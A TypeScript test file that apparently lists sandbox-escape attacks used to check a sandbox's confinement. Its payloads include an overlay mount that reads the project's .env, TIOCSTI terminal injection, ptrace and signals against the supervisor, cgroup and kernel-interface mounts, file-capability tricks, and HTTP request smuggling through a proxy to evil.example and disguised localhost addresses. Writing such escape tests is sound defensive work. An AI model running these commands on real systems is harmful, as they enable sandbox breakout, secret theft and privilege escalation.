// Ways out that other sandboxes have had: the kernel's own, the terminal, the proxy.
import { type Attack, changes, connects, creates, leaks, node, throughProxy } from './attacks.ts';

const python = (code: string): string => `python3 - <<'PYTHON'\n${code}\nPYTHON\n`;
const saysDone = (_: unknown, output: string): boolean => /^done/m.test(output);

export const ESCAPES: readonly Attack[] = [
  leaks(
    'lays an overlay over the cover',
    ({ project }) =>
      `unshare -Urm sh -c "mkdir -p /tmp/u /tmp/w /tmp/m; mount -t overlay o -o lowerdir=${project},upperdir=/tmp/u,workdir=/tmp/w /tmp/m; mount -t overlay o -o lowerdir=${project}:/usr /tmp/m; cat /tmp/m/.env"`,
  ),
  changes('exchanges protected files and directories with its own', () =>
    python(`import ctypes, os
c = ctypes.CDLL(None)
os.makedirs("xa", exist_ok=True)
open("xa/package.json", "w").write("x")
for name in (b"package.json", b"packages/a/package.json"): print(c.renameat2(-100, name, -100, b"xa/package.json", 2))
for name in (b"packages", b"packages/a", b".git", b".vscode"): print(c.renameat2(-100, name, -100, b"xa", 2))`),
  ),
  {
    name: 'types into a terminal',
    script: () =>
      python(`import fcntl, os, termios
for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/tty1"):
  try: fcntl.ioctl(os.open(name, os.O_RDWR), termios.TIOCSTI, b"x"); print("done")
  except OSError as error: print(name, error)`),
    worked: saysDone,
  },
  {
    name: 'makes sockets of other families',
    script: () =>
      python(`import socket
for name, kind in (("UNIX", 1), ("UNIX", 2), ("UNIX", 5), ("VSOCK", 1), ("PACKET", 3), ("ALG", 5), ("RDS", 5), ("TIPC", 5)):
  try: socket.socket(getattr(socket, "AF_" + name), kind); print("done")
  except (AttributeError, OSError) as error: print(name, error)`),
    worked: saysDone,
  },
  {
    name: 'traces, signals and slows switchboard down',
    script: ({ child }) =>
      python(`import ctypes, os
if ctypes.CDLL(None).ptrace(16, ${child.pid}, 0, 0) == 0: print("done")
for call in (os.kill, os.killpg):
  try: call(${child.pid}, 0); print("done")
  except OSError as error: print(error)
try: os.setpriority(os.PRIO_PROCESS, ${child.pid}, 19); print("done")
except OSError as error: print(error)`),
    worked: saysDone,
  },
  {
    name: 'changes groups of processes and the kernel',
    script: () =>
      'mkdir /sys/fs/cgroup/evil && echo done; unshare -UrCm sh -c "mount -t cgroup2 none /mnt && echo done"; unshare -Urm sh -c "mount -t cgroup2 none /mnt && echo done; mount -t cgroup -o pids none /mnt && echo done"; bwrap --unshare-all --bind / / true && echo done; test -e /dev/mem && echo done; test -e /dev/kmsg && echo done; unshare -Urm sh -c "mount -t debugfs none /mnt && echo done; mount -t sysfs none /mnt && echo 1 > /mnt/kernel/mm/ksm/run && echo done"; head -c 1 /proc/kcore && echo done',
    worked: saysDone,
  },
  {
    name: 'gives a file to another user, or rights',
    script: () =>
      "cp /bin/true s; chown 0:0 s && echo done; chgrp 0 s && echo done; python3 -c \"import os; os.setxattr('s', 'security.capability', bytes.fromhex('0100000200200000000000000000000000000000'))\" && echo done; rm -f s",
    worked: saysDone,
  },
  creates(
    'leaves something in shared memory',
    () => `echo x > /dev/shm/from-the-sandbox; ${python('import ctypes; ctypes.CDLL(None).shmget(0x5B0A, 64, 0o1666)')}`,
    () => '/dev/shm/from-the-sandbox',
  ),
  connects(
    'hides a second request behind one that is refused, and this machine behind other spellings',
    ({ port }) =>
      `${node(`const s = require("net").connect(3128, "127.0.0.1"); s.write("GET http://evil.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\nContent-Length: 0\\r\\n\\r\\nCONNECT 127.0.0.1:${port} HTTP/1.1\\r\\n\\r\\n"); s.on("data", (d) => console.log(String(d))); s.on("close", () => process.exit(0)); s.on("error", () => process.exit(1)); setTimeout(() => process.exit(2), 2000)`)}; ${['2130706433', '0x7f000001', '0177.0.0.1', 'localhost.', '[::1]', '[::ffff:7f00:1]', '[64:ff9b::7f00:1]', '[::]'].map((host) => throughProxy(host, port)).join('; ')}`,
  ),
];
